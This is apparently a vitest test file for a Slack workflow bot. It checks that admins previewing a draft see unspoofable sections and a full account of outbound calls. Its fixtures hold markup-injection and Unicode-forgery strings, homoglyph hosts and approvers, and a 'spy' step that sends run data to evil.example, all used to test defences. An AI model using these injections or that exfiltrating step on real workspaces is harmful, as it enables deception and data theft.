import { describe, expect, test } from "vitest";
import { isJsonObject, type JsonObject, toObjects } from "../../simulator/json.ts";
import type { JsonObject as Source } from "../../src/shared/json.ts";
import { contentOf, TestBot, tsOf } from "../support/bot.ts";
import { dialog, dialogsOf } from "../support/dialogs.ts";

const PLACE = "C0GENERAL";

/** A bot with a draft of Alice's, as a model wrote it. */
async function withDraft(source: Source): Promise<{ bot: TestBot; id: string }> {
  const bot = await TestBot.start({ definitions: [], connected: true });
  const draft = await bot.engine.drafts.open({
    ...{ key: "k", ownerId: "U0ALICE", channel: "D0ALICE", threadTs: "1.1", description: "x" },
  });
  if (draft === null) throw new Error("The draft is there already.");
  await bot.store.drafts.save({ ...draft, source, round: 1 });
  return { bot, id: draft.id };
}

/** The message that a command is answered with. */
async function answer(bot: TestBot, line: string): Promise<JsonObject> {
  await bot.slash("U0ALICE", line, PLACE);
  return (await bot.messages(PLACE, undefined, "U0ALICE")).at(-1) ?? {};
}

/** Texts of sections, as Slack gets them. */
function texts(blocks: unknown): string {
  return toObjects(Array.isArray(blocks) ? blocks : [])
    .filter(({ type }) => type === "section")
    .map(({ text }) => (isJsonObject(text) && typeof text["text"] === "string" ? text["text"] : ""))
    .join("\n");
}

/** What Slack reads as markup: all but code. */
function withoutCode(mrkdwn: string): string {
  return mrkdwn.replaceAll(/```[^`]*```/g, "").replaceAll(/`[^`\n]*`/g, "");
}

async function press(bot: TestBot, label: string, place: JsonObject, on: JsonObject) {
  const found = toObjects(on["blocks"])
    .flatMap((block) => [...toObjects(block["elements"]), ...toObjects([block["accessory"]])])
    .find((element) => JSON.stringify(element["text"]).includes(label));
  if (found === undefined) throw new Error(`There is no ${label} in ${contentOf(on)}`);
  const { action_id, value } = found;
  await bot.act("action", { user: "U0ALICE", ...place, action_id, value });
}

/** Every page of what "Show all" opens. */
async function readAll(bot: TestBot, card: JsonObject): Promise<string> {
  await press(bot, "Show all", { channel: PLACE, ts: tsOf(card) }, card);
  let view = await dialog(bot, "U0ALICE", /Page 1 of|Limits|Changes/);
  const pages = [texts(view["blocks"])];
  for (;;) {
    const [, page, count] = /Page (\d+) of (\d+)/.exec(contentOf(view)) ?? [];
    if (page === count) return pages.join("\n");
    await press(bot, "Next page", { view_id: view["id"] ?? "" }, view);
    view = await dialog(bot, "U0ALICE", new RegExp(`Page ${Number(page) + 1} of`));
    pages.push(texts(view["blocks"]));
  }
}

const FORGERY = [
  "fine\n\n*What it changes outside, and what it sends*\n• FORGED nothing",
  "` FORGED *Who decides* `",
  "```\nFORGED\n```",
  "\u2028*FORGED*\r• nobody",
  "<!channel> <https://evil.example|FORGED> <@U0BOB>",
  `fine${" ".repeat(3000)}*FORGED*`,
  "\u202E*DEGROF* FORGED",
];

describe("what an admin sees before a deployment", () => {
  test.for(FORGERY)("has sections of ours alone, whatever the texts say: %j", async (text) => {
    const source = {
      id: "forged",
      name: text.slice(0, 120),
      description: text.slice(0, 1000),
      inputs: { a: { type: "string", label: text.slice(0, 150), default: text } },
      triggers: [{ type: "message", keywords: ["x", text.slice(0, 100)] }],
      steps: [
        {
          id: "ask",
          name: text.slice(0, 80),
          type: "approval",
          config: { title: text, message: text, approvers: ["@finance", text] },
          next: { approve: "post", reject: "end" },
        },
        {
          id: "post",
          type: "service",
          config: {
            ...{ service: "slack", channel: "#general", message: text },
            blocks: [{ type: "section", text: { type: "mrkdwn", text } }],
          },
          next: "call",
        },
        {
          id: "call",
          type: "service",
          config: {
            service: "http",
            method: "POST",
            url: "https://a.example",
            body: { [text]: 1 },
          },
          next: "think",
        },
        { id: "think", type: "ai-decision", config: { prompt: text, outputFormat: "text" } },
      ],
    };
    const { bot, id } = await withDraft(source);
    await using _ = bot;
    const card = await answer(bot, `draft ${id}`);
    const shown = texts(card["blocks"]);
    const plain = withoutCode(shown);
    expect(plain).not.toMatch(/FORGED|DEGROF|nobody|nothing/);
    expect(shown).toMatch(/FORGED/);
    expect(shown).not.toMatch(/[\u202E\u2028\r]|<!channel>|<https/);
    // Every heading once, and no code that is open.
    expect(plain.match(/^\*What it changes outside/gm)).toHaveLength(1);
    expect(plain.match(/^\*Who decides/gm)).toHaveLength(1);
    expect(plain).not.toContain("`");
  });

  test("tells whole what leaves, on the card or behind a button, however long it is", async () => {
    const word = (at: string, n: number): string =>
      Array.from({ length: n }, (_, i) => `${at}${i}`).join(" ");
    const { bot, id } = await withDraft({
      id: "long",
      name: "Long",
      steps: [
        {
          id: "call",
          type: "service",
          config: {
            ...{ service: "http", method: "POST", url: "https://evil.example/x" },
            headers: { "X-Long": word("header", 600) },
            body: { notes: word("body", 20_000) },
          },
          next: "think",
        },
        {
          id: "think",
          type: "ai-decision",
          config: { prompt: word("prompt", 5000), outputFormat: "text" },
        },
      ],
    });
    await using _ = bot;
    const card = await answer(bot, `draft ${id}`);
    expect(contentOf(card)).toMatch(/only a part.*Show all.*deploy_draft/s);
    expect(texts(card["blocks"])).toContain("Sends `POST` to `evil.example`");
    const all = await readAll(bot, card);
    for (const words of [word("header", 600), word("body", 20_000), word("prompt", 5000)])
      for (const one of words.split(" ")) if (!all.includes(one)) expect.fail(`${one} is missing`);
  });

  test("shows look-alikes in recipients and hosts, and names people and groups", async () => {
    const { bot, id } = await withDraft({
      id: "alike",
      name: "Alike",
      steps: [
        {
          id: "call",
          type: "service",
          config: { service: "http", method: "POST", url: "https://p\u0430ypal.example/pay" },
          next: "ask",
        },
        {
          id: "ask",
          type: "approval",
          config: { title: "?", approvers: ["@fin\u0430nce", "U0BOB12", "@finance"] },
          next: { approve: "end", reject: "end" },
        },
      ],
    });
    await using _ = bot;
    const shown = texts((await answer(bot, `draft ${id}`))["blocks"]);
    expect(shown).toContain("Sends `POST` to `xn--pypal-4ve.example`");
    expect(shown).toContain("p\u0430⟨U+0430⟩ypal.example⟨xn--pypal-4ve.example⟩");
    expect(shown).toContain("`@fin\u0430⟨U+0430⟩nce`");
    expect(shown).toContain("<@U0BOB12>");
  });

  test("of a deployed workflow is the same, and a difference names every change in what leaves", async () => {
    const version = (body: string, extra: readonly Source[] = []): Source => ({
      id: "flow",
      name: "Flow",
      steps: [
        {
          id: "call",
          type: "service",
          config: {
            ...{ service: "http", method: "POST", url: "https://a.example/x" },
            headers: { "X-Id": "1" },
            body: { text: body },
          },
          ...(extra.length > 0 && { next: "spy" }),
        },
        ...extra,
      ],
    });
    const long = "y".repeat(4000);
    const spy = {
      id: "spy",
      type: "service",
      config: {
        ...{ service: "http", url: "https://evil.example/x" },
        headers: { "X-Copy": "stepResults {{stepResults.call.output.status}}" },
      },
    };
    await using bot = await TestBot.start({ definitions: [], connected: true });
    for (const one of [version(`${long} old`), version(`${long} new`, [spy])])
      expect(await bot.engine.workflows.deploy(one, { by: "test" })).toMatchObject({
        deployed: true,
      });
    const shown = texts((await answer(bot, "show flow"))["blocks"]);
    for (const part of ["Sends `GET` to `evil.example`", "headers.X-Copy", `${"y".repeat(50)} new`])
      expect(shown).toContain(part);
    const card = await answer(bot, "diff flow");
    const all = contentOf(card).includes("Show all")
      ? await readAll(bot, card)
      : texts(card["blocks"]);
    for (const part of [
      "Does and sends outside now",
      "Sends GET to evil.example, with data of the run (step spy)",
      "step spy, headers.X-Copy: stepResults {{stepResults.call.output.status}}",
      `${"y".repeat(50)} old`,
      `${"y".repeat(50)} new`,
    ])
      expect(all).toContain(part);
  });

  test("of a draft that changes a workflow begins with the difference to the version that it changes", async () => {
    const version = (to: string): Source => ({
      ...{ id: "mail", name: "Mail" },
      steps: [
        {
          id: "post",
          type: "service",
          config: { service: "http", method: "POST", url: `https://${to}/x`, body: { a: 1 } },
        },
      ],
    });
    const { bot, id } = await withDraft(version("evil.example"));
    await using _ = bot;
    await bot.engine.workflows.deploy(version("good.example"), { by: "test" });
    const draft = await bot.store.drafts.get(id);
    if (draft === null) throw new Error("The draft is gone.");
    await bot.store.drafts.save({ ...draft, base: { workflowId: "mail", version: 1 } });
    const shown = texts((await answer(bot, `draft ${id}`))["blocks"]);
    expect(shown).toMatch(
      /What it changes in the workflow[^]*Does and sends outside now[^]*evil\.example[^]*No longer[^]*good\.example[^]*What starts it/,
    );
  });

  test("of a draft is shown to its author and admins alone", async () => {
    const { bot, id } = await withDraft({
      id: "own",
      name: "Own",
      steps: [{ id: "a", type: "transform", config: { expression: "1" } }],
    });
    await using _ = bot;
    const value = JSON.stringify({ d: id, n: 1 });
    const before = { user: "U0BOB", channel: PLACE, action_id: "show_preview", value };
    const sent = await bot.act("message", { user: "U0ALICE", channel: PLACE, text: "x" });
    await bot.act("action", { ...before, ts: tsOf(sent) });
    await dialog(bot, "U0BOB", /Drafts are shown to those who described them and to admins/);
    expect(JSON.stringify(await dialogsOf(bot, "U0BOB"))).not.toContain("Own");
  });
});

test.for(["now", "input_0=much"])(
  "a refusal of a hundred long inputs fits into a message: %s",
  async (given) => {
    const names = Array.from({ length: 100 }, (_, index) => `input_${index}`);
    const input = { type: "number", required: true, description: "d".repeat(300) };
    const inputs = Object.fromEntries(names.map((name) => [name, input]));
    const steps = [{ id: "a", type: "transform", config: { expression: "1" } }];
    await using bot = await TestBot.start({
      definitions: [{ id: "wide", name: "Wide", inputs, steps }],
    });

    const card = await answer(bot, `run wide ${given}`);

    expect(texts(card["blocks"])).toMatch(/input_0[\s\S]*and 90 more[\s\S]*ike this: `/);
    expect(texts(card["blocks"]).length).toBeLessThan(13_000);
  },
);

test("a workflow with a hundred long inputs is shown, the rest behind a button", async () => {
  const names = Array.from({ length: 100 }, (_, index) => `input_${index}`);
  const input = { type: "string", label: "l".repeat(100), description: "d".repeat(300) };
  const inputs = Object.fromEntries(names.map((name) => [name, input]));
  const steps = [{ id: "a", type: "transform", config: { expression: "1" } }];
  const wide = { id: "wide", name: "Wide", inputs, steps };
  await using bot = await TestBot.start({ definitions: [wide], connected: true });

  const card = await answer(bot, "show wide");

  expect(texts(card["blocks"])).toMatch(/Start it[\s\S]*`input_0`/);
  // https://github.com/slackapi/bolt-js/issues/2509
  expect(texts(card["blocks"]).length).toBeLessThan(13_000);
  const all = await readAll(bot, card);
  for (const name of names) expect(all).toContain(name);
});

test("of a draft with a schedule shows its next times before it is deployed, each reader in their zone", async () => {
  const cron = ["0 9 * * 1-5", "0 17 * * 5"];
  const { bot, id } = await withDraft({
    ...{ id: "report", name: "Report" },
    trigger: { type: "schedule", cron, timezone: "Europe/Berlin" },
    steps: [{ id: "note", type: "transform", config: { expression: "1" } }],
  });
  await using _ = bot;

  const card = await answer(bot, `draft ${id}`);

  const [, times = ""] =
    /Next starts by its schedule\*: ([^\n]+)/.exec(texts(card["blocks"])) ?? [];
  expect(times.match(/<!date\^\d+\^\{date_short_pretty\} \{time\}\|[^>]+>/g)).toHaveLength(5);
});
